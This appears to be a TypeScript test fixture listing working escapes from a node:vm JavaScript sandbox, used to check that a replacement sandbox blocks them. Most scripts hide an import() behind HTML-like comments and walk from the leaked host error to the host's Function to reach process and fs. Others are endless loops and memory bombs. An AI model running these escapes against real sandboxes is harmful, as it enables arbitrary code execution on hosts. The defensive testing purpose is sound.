/**
 * Known ways out of a JavaScript sandbox built on `node:vm`, as record.evaluate scripts. Each one, should it
 * reach the host, writes a marker file and sets a global of the host realm (`globalThis[ESCAPE_GLOBAL]`), so a
 * test proves it held by finding neither. The tests run them against the record.evaluate sandbox at validation
 * and at run time; `npm run bench -- escapes` runs them against the former `node:vm` sandbox
 * (bin/bench/vm-sandbox.ts) to show what they did there.
 *
 * Most walks start from the one host object a `node:vm` context could be handed: the error a dynamic `import()`
 * rejects with, the `import` hidden from a text check behind an HTML-like comment. From there each takes a
 * different path to the host's `Function` (constructor chains, promises, proxies, `arguments`, stack-trace
 * hooks, symbol-keyed methods, `this`). The others attack the host's resources: endless loops and memory bombs,
 * at load (which a validation that runs the script would suffer) and per record.
 */

/** The host global an escape sets. */
export const ESCAPE_GLOBAL = '__idxEscaped';

/** What the record.evaluate sandbox must answer. */
export interface EscapeExpectation {
  /** Validation accepts the script (it only parses it), or refuses it with this code. */
  readonly validation: 'accepted' | 'IDX_SCRIPT_INVALID';
  /** At run time: the record passes, is rejected with this code, or the step refuses to load the script. */
  readonly run: 'passes' | 'IDX_SCRIPT_TIMEOUT' | 'IDX_SCRIPT_MEMORY' | 'IDX_SCRIPT_ERROR' | 'load refused';
}

/** One escape attempt. */
export interface Escape {
  readonly name: string;
  /** The technique, for reports. */
  readonly technique: string;
  /** The script; `marker` is the file it writes once it reaches the host. */
  readonly script: (marker: string) => string;
  readonly expected: EscapeExpectation;
  /**
   * Params of the step besides the script, beyond a short `timeoutMs`: the memory bombs get a long time limit and
   * a small memory limit, so they meet the memory limit first however slow a loaded machine runs them.
   */
  readonly params?: Readonly<Record<string, unknown>>;
}

/** The params the memory bombs run with. */
const BOMB_PARAMS = { timeoutMs: 20_000, memoryMb: 16 };

/** Given the host's `Function`, writes the marker file and sets the host global. */
const pwn = (marker: string) =>
  `function pwn(H) {
  var p = H("return process")();
  var fs = p.getBuiltinModule ? p.getBuiltinModule("fs") : p.mainModule.require("fs");
  fs.writeFileSync(${JSON.stringify(marker)}, "escaped");
  H("return globalThis")()[${JSON.stringify(ESCAPE_GLOBAL)}] = true;
}
`;

/**
 * A dynamic import hidden from a text check behind an HTML-like comment: in a `node:vm` context, a promise
 * rejected with an error of the host realm. Written as an expression (`var leak = …`): as a statement, a parser
 * that does not skip the comment after `import` takes it for an import declaration.
 */
const HIDDEN_IMPORT = `(import <!-- a comment to the end of the line, so the text reads "import" then a newline
("node:fs"))`;

/** A script that runs `attack` once at load and once per record, passing every record on. */
const both = (marker: string, attack: string) =>
  `${pwn(marker)}function attack() {
${attack}
}
try { attack(); } catch (e) {}
function process(record) {
  try { attack(); } catch (e) {}
  return record;
}
`;

const passes: EscapeExpectation = { validation: 'accepted', run: 'passes' };

/** The escapes. */
export const ESCAPES: readonly Escape[] = [
  {
    name: 'the reported escape: a hidden import() and the error constructor walk',
    technique: 'dynamic import behind `<!--`, then e.constructor.constructor("return process")()',
    script: (m) =>
      both(
        m,
        `var leak = ${HIDDEN_IMPORT};
leak.catch(function (e) { pwn(e.constructor.constructor); });`,
      ),
    expected: passes,
  },
  {
    name: 'an HTML close comment hiding import() and a walk up the error prototype chain',
    technique: '`-->` at the start of a line, Object.getPrototypeOf(e) … .constructor',
    script: (m) =>
      both(
        m,
        `var leak = (import
--> the rest of this line is a comment
("node:fs"));
leak.catch(function (e) {
  var proto = Object.getPrototypeOf(Object.getPrototypeOf(e));
  pwn(proto.constructor.constructor);
});`,
      ),
    expected: passes,
  },
  {
    name: 'the promise import() returns and its then() callback',
    technique: 'p.then(undefined, cb): the rejection reason’s constructor, or the promise’s own constructor',
    script: (m) =>
      both(
        m,
        `var p = ${HIDDEN_IMPORT};
p.then(undefined, function (e) {
  var H = p.constructor.constructor;
  try { H("return 1")(); } catch (x) { H = e.constructor.constructor; }
  pwn(H);
});`,
      ),
    expected: passes,
  },
  {
    name: 'a Proxy over the leaked error',
    technique: 'new Proxy(e, { get: Reflect.get }).constructor.constructor',
    script: (m) =>
      both(
        m,
        `var leak = ${HIDDEN_IMPORT};
leak.catch(function (e) {
  var seen = new Proxy(e, { get: function (t, k) { return Reflect.get(t, k); } });
  pwn(seen.constructor.constructor);
});`,
      ),
    expected: passes,
  },
  {
    name: 'arguments and arguments.callee in a sloppy callback',
    technique: 'arguments.callee.caller, else arguments[0].constructor.constructor',
    script: (m) =>
      both(
        m,
        `var leak = ${HIDDEN_IMPORT};
leak.catch(function () {
  var caller = arguments.callee.caller;
  pwn(caller ? caller.constructor : arguments[0].constructor.constructor);
});`,
      ),
    expected: passes,
  },
  {
    name: 'a stack-trace hook installed on the host Error',
    technique: 'Error.prepareStackTrace set on the host realm’s Error: the host calls it with its own errors',
    script: (m) =>
      both(
        m,
        `var leak = ${HIDDEN_IMPORT};
leak.catch(function (e) {
  var HostError = e.constructor;
  while (HostError && HostError.name !== "Error") HostError = Object.getPrototypeOf(HostError);
  // From now on the host calls this hook for the stack of every error of its own, and hands it that error.
  HostError.prepareStackTrace = function (error) { pwn(error.constructor.constructor); return ""; };
  new HostError("format me").stack;
});`,
      ),
    expected: passes,
  },
  {
    name: 'a symbol-keyed method of the host',
    technique: 'e.constructor[Symbol.hasInstance].constructor (a host builtin reached by a well-known symbol)',
    script: (m) =>
      both(
        m,
        `var leak = ${HIDDEN_IMPORT};
leak.catch(function (e) { pwn(e.constructor[Symbol.hasInstance].constructor); });`,
      ),
    expected: passes,
  },
  {
    name: 'this bound to the leaked error',
    technique: '(function () { this.constructor.constructor }).call(e)',
    script: (m) =>
      both(
        m,
        `var leak = ${HIDDEN_IMPORT};
leak.catch(function (e) {
  (function () { pwn(this.constructor.constructor); }).call(e);
});`,
      ),
    expected: passes,
  },
  {
    name: 'a host error raised at the edge of a stack overflow',
    technique: 'recurse until the stack is full, then call a host function (console.log) so the host throws',
    script: (m) =>
      both(
        m,
        `function isHost(e) { try { return !!e && typeof e === "object" && e.constructor.constructor !== Function; } catch (x) { return false; } }
function dive() {
  var r;
  try { r = dive(); } catch (e) { r = undefined; }
  if (r) return r;
  try { console.log("x"); } catch (e) { if (isHost(e)) return e; }
  return undefined;
}
var leaked = dive();
if (leaked) pwn(leaked.constructor.constructor);`,
      ),
    expected: passes,
  },
  {
    name: 'an endless loop at load',
    technique: 'for (;;) at the top level: a validation that runs the script hangs or times out',
    script: (m) => `${pwn(m)}for (var i = 0; i >= 0; i = (i + 1) % 1000) {}
function process(record) { return record; }
`,
    expected: { validation: 'accepted', run: 'load refused' },
  },
  {
    name: 'an endless loop in process()',
    technique: 'for (;;) per record',
    script: (m) => `${pwn(m)}function process(record) { for (;;) {} }
`,
    expected: { validation: 'accepted', run: 'IDX_SCRIPT_TIMEOUT' },
  },
  {
    name: 'a memory bomb at load',
    technique: '2 MiB typed arrays kept at the top level, 512 MiB in all',
    script: (m) => `${pwn(m)}var hoard = [];
for (var n = 0; n < 256; n++) hoard.push(new Float64Array(1 << 18).fill(n));
function process(record) { return record; }
`,
    expected: { validation: 'accepted', run: 'load refused' },
    params: BOMB_PARAMS,
  },
  {
    name: 'a memory bomb in process()',
    technique: '2 MiB typed arrays kept in a global, 512 MiB in all, per record',
    script: (m) => `${pwn(m)}var hoard = [];
function process(record) {
  for (var n = 0; n < 256; n++) hoard.push(new Float64Array(1 << 18).fill(n));
  return record;
}
`,
    expected: { validation: 'accepted', run: 'IDX_SCRIPT_MEMORY' },
    params: BOMB_PARAMS,
  },
  {
    name: 'one huge ArrayBuffer per record',
    technique: 'new ArrayBuffer(1 GiB): memory outside the JavaScript heap',
    script: (m) => `${pwn(m)}var kept = [];
function process(record) {
  kept.push(new ArrayBuffer(1024 * 1024 * 1024));
  return record;
}
`,
    expected: { validation: 'accepted', run: 'IDX_SCRIPT_MEMORY' },
  },
];
